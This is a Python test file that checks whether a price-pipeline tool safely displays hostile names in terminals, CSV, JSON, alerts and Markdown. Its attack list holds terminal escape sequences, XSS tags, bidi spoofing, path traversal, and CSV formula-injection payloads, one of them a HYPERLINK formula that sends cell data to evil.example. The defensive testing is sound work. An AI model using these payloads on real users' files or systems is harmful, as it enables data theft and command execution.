"""Names that attack, by the places where people meet foreign text: each is shown, and none runs."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from markdown_it import MarkdownIt

from common.errors import ConfigError, RequestRejected
from common.shards import Item, SeriesShard
from common.text import quote, reveal, sanitize, unescape
from common.warehouse_errors import WarehouseUnusable
from connectors.shards import Shard
from floorline.cli.render.query import Form, print_results
from floorline.cli.render.runs import print_alert, print_alerts, print_files, result_notes
from floorline.console import print_error, print_line, print_table, to_json
from flows.artifacts import artifact_key, code_span
from flows.snapshot_report import summarize
from pipelines.alerts.channels import AppriseChannel
from pipelines.alerts.messages import AlertMessage
from pipelines.backfill.extraction import shard_label as series_label
from pipelines.config import parse_settings
from pipelines.results import RunResult
from pipelines.snapshot.extraction import shard_label
from tests.support.clocks import NOON
from tests.support.http_servers import webhook_receiver
from tests.support.terminals import printed
from warehouse.loading.run import LoadReport, PriceMove, SuspectProvider
from warehouse.queries.session import query_results
from warehouse.state.alerts import Alert
from warehouse.state.backfill_rows import BackfillShard

ATTACKS = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear screen": "\x1b[2J\x1b[H",
    "C1 control": "\x9b31mred",
    "title": "\x1b]0;owned\x07",
    "link of OSC 8": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "DCS": '\x1bP$q"p\x1b\\',
    "clipboard": "\x1b]52;c;Y3VybA==\x07",
    "markup": "[red]x[/red] [link=http://evil.example]y[/link] [/]",
    "emoji codes": ":smile: :warning:",
    "override": "\u202etxt.exe",
    "isolate": "\u2066a\u2069\u2067b\u2068",
    "zero width": "AK\u200b-47\u200d\ufeff\u2060",
    "fillers": "AK\u3164\u115f\u2800\ufe0f",
    "line breaks": "one\ntwo\rthree\x0bfour\x0cfive",
    "more line breaks": "one\u2028two\u2029three\x85four",
    "overwrite": "free\r9999.00\b\b",
    "tag characters": "AK\U000e0041\U000e0042",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after blanks": "  =1+1",
    "wide formula": "\uff1d1+1",
    "formula after a separator": "AK;=1+1",
    "formula in quotation marks": '",=1+1,"',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt; &#60;script&#62;",
    "Markdown": "[x](http://evil.example) ![y](http://evil.example) # h\n- l `a` ``b`` |c|",
    "fence": "```\n</code><b>x</b>\n```",
    "mentions": "@everyone <!channel> <@U1> @here",
    "template": "{{ 7*7 }} {% raw %} %s {0} ${x}",
    "path": "../../../etc/passwd\0",
    "very long": "x" * 100_000,
}
Place = Callable[[str], str]


def printed_query(name: str, form: Form, width: int | None = None) -> str:
    def show() -> None:
        column = '"' + name.replace('"', '""').replace("\0", "") + '"'
        text = "'" + name.replace("'", "''").replace("\0", "") + "'"
        with query_results(DATABASE[0], f"SELECT {text} AS {column}, 1 AS n") as results:
            print_results(results, form=form)

    return printed(width, show)


DATABASE: list[Path] = []


@pytest.fixture(scope="module", autouse=True)
def database(tmp_path_factory: pytest.TempPathFactory) -> None:
    DATABASE[:] = [tmp_path_factory.mktemp("names") / "market.duckdb"]
    duckdb.connect(DATABASE[0]).close()


def alert(name: str) -> Alert:
    return Alert("provider.dark", "cs2cap", name, f"{name}: gone", code=name, alert_id=1, opened_at=NOON)


def result(name: str) -> RunResult:
    load = LoadReport(
        "r",
        "cs2cap",
        "core",
        "done",
        outliers=(PriceMove(name, name, name, "USD", Decimal(1), Decimal(10)),),
        held=(SuspectProvider(name, "is down"),),
        contract_changes=(name,),
    )
    fields = {name: 1}
    return RunResult(
        "r", "cs2cap", "core", "incomplete", 1, 1, incomplete_reason=name, load=load, unknown_fields=fields
    )


def label_of_series(name: str) -> str:
    ask = SeriesShard("USD", NOON, NOON, Item("1", name, name), name)
    return series_label(BackfillShard("b", 1, ask, "waiting", ask, None, 0, 0, 0, None, NOON, None))


LINES: dict[str, Place] = {
    "error of a source": lambda name: str(RequestRejected(name, name, name, 400, name)),
    "error of the warehouse": lambda name: str(WarehouseUnusable(name, Path(name.replace("\0", "")))),
    "name in a message": lambda name: sanitize(quote(name), 1000),
    "title of an alert": lambda name: AlertMessage(alert(name)).title,
    "label of a shard": lambda name: shard_label(Shard(1, "cs2cap", "USD", (name,), None, route="catalog")),
    "label of a series": label_of_series,
    "message of a flow": lambda name: summarize(result(name)),
    "Markdown of an artifact": code_span,
}
BLOCKS: dict[str, Place] = {
    "table": lambda name: printed(None, lambda: print_table(("name", "n"), [(name, 1)])),
    "table on a terminal": lambda name: printed(80, lambda: print_table(("name", "n"), [(name, 1)])),
    "line": lambda name: printed(None, lambda: print_line(name)),
    "JSON": lambda name: to_json({name: name}),
    "query": lambda name: printed_query(name, "table"),
    "query on a terminal": lambda name: printed_query(name, "table", 80),
    "query as JSON": lambda name: printed_query(name, "json"),
    "query as CSV on a terminal": lambda name: printed_query(name, "csv", 80),
    "alerts": lambda name: printed(None, lambda: print_alerts([alert(name)])),
    "an alert": lambda name: printed(None, lambda: print_alert(AlertMessage(alert(name)), as_json=False)),
    "message of an alert": lambda name: AlertMessage(alert(name)).body,
    "notes of a run": lambda name: "\n".join(result_notes(result(name))),
    "files": lambda name: printed(
        None, lambda: print_files("export", [Path(name.replace("\0", ""))], as_json=False)
    ),
}


def is_shown(text: str) -> bool:
    """Return whether a terminal runs nothing of a text and hides nothing of it."""
    return text == reveal(text) and not any(
        unicodedata.category(char)[0] == "C" for char in text.replace("\n", "")
    )


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("place", LINES.values(), ids=LINES)
def test_attack_is_shown_on_one_line(place: Place, attack: str) -> None:
    shown = place(attack)
    assert is_shown(shown)
    assert "\n" not in shown
    assert len(shown) < 20_000


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("place", BLOCKS.values(), ids=BLOCKS)
def test_attack_is_shown_in_its_place(place: Place, attack: str) -> None:
    plain = place("AK-47")
    shown = place(attack)
    assert is_shown(shown)
    if place is not BLOCKS["line"] and place is not BLOCKS["query as CSV on a terminal"]:
        assert shown.count("\n") == plain.count("\n")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_csv_has_a_guarded_cell_and_json_the_exact_name(attack: str) -> None:
    name = attack.replace("\0", "")
    text = printed_query(name, "csv")
    heading, row = csv.reader(io.StringIO(text, newline=""))
    assert (row[0].removeprefix("'"), row[1]) == (name, "1")
    assert heading[0].removeprefix("'") == name
    for cell in (heading[0], row[0]):
        assert not re.match(r"\s*[=+@\uff1d-]|[\t\r]", cell)
    # with a semicolon as the separator, as in many countries, no other cell arises
    assert [len(cells) for cells in csv.reader(io.StringIO(text, newline=""), delimiter=";")] == [1, 1]
    assert json.loads(printed_query(name, "json"))["result"] == [{name: name, "n": 1}]
    assert json.loads(to_json({name: name})) == {name: name}


@pytest.mark.parametrize("value", ["-5", "+1.50", "a-b", "", "1=2", "=", None])
def test_csv_guards_formulas_only(value: str | None) -> None:
    def show() -> None:
        text = "NULL" if value is None else f"'{value}'"
        with query_results(
            DATABASE[0], f"SELECT {text}::VARCHAR AS v, -1 AS n, 1e-8::DECIMAL(20, 8) AS d"
        ) as found:
            print_results(found, form="csv")

    _, line = printed(None, show).splitlines()
    expected = {"": '""', None: "", "=": "'="}.get(value, value)
    assert line == f"{expected},-1,0.00000001"


def test_exact_csv_is_written_by_copy(tmp_path: Path) -> None:
    sql = f"COPY (SELECT '=1+1' AS name, 'a' || chr(27) AS other) TO '{tmp_path}/exact.csv'"
    with query_results(DATABASE[0], sql, allow_files=True) as results:
        list(results)
    assert (tmp_path / "exact.csv").read_text() == "name,other\n=1+1,a\x1b\n"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_artifact_shows_foreign_text_as_code(attack: str) -> None:
    rendered = MarkdownIt("gfm-like", {"linkify": False}).render(f"before {code_span(attack)} after")
    found = re.fullmatch(r"<p>before <code>(.*)</code> after</p>\n", rendered)
    assert found, rendered
    assert html.unescape(found[1]).strip() == sanitize(attack, 4000).strip()
    assert "<" not in found[1]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_message_of_an_alert_has_no_mention_link_html_or_formula(attack: str) -> None:
    for text in (AlertMessage(alert(attack)).title, *AlertMessage(alert(attack)).body.split("\n")):
        assert not re.search(r"@\S|<\S|://|:[a-z_]+:|\]\(|^[=+-]", text)
    if len(attack) < 100:
        assert sanitize(attack) in unescape(AlertMessage(alert(attack)).body) or "\\" in sanitize(attack)


def test_webhook_receives_attacks_as_plain_text() -> None:
    with webhook_receiver() as receiver:
        for attack in ATTACKS.values():
            assert AppriseChannel(0, receiver.url).send(AlertMessage(alert(attack))) is None
    assert len(receiver.received) == len(ATTACKS)
    for _, message in receiver.received:
        lines = [message["title"], *message["message"].split("\n")]
        assert len(lines) == len(AlertMessage(alert("AK-47")).body.split("\n")) + 1
        assert all(map(is_shown, lines))
        assert not any(re.search(r"@\S|<\S|://|:[a-z_]+:|\]\(|^[=+-]", line) for line in lines)


def test_error_line_is_safe(capsys: pytest.CaptureFixture[str]) -> None:
    for attack in ATTACKS.values():
        print_error(attack)
    assert is_shown(capsys.readouterr().err)


NAMES = [
    *(
        "../x",
        "..",
        ".",
        "/etc",
        "a/b",
        "a\\b",
        "a\0b",
        "a\nb",
        "",
        "x" * 65,
        "a b",
        "-x",
        "\x1b[31m",
        "\u202ea",
    ),
    *("CON", "con.txt", "nul", "Aux", "COM1", "lpt9.x", "a.", "caf\xe9"),
]


@pytest.mark.parametrize("name", NAMES)
def test_name_of_a_source_or_basket_cannot_leave_its_folder(name: str) -> None:
    source = {"kind": "cs2cap"}
    basket = {"name": "core", "source": "fine", "items": ["all"]}
    for fields in (
        {"sources": {name: source, "fine": source}, "baskets": [basket]},
        {"sources": {"fine": source}, "baskets": [{**basket, "name": name}]},
    ):
        with pytest.raises(ConfigError) as error:
            parse_settings(fields, Path())
        assert is_shown(str(error.value))
        assert "\n" not in str(error.value)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_key_of_an_artifact_is_a_word(attack: str) -> None:
    assert re.fullmatch(r"alert(-[a-z0-9]+)*", artifact_key("alert", attack))
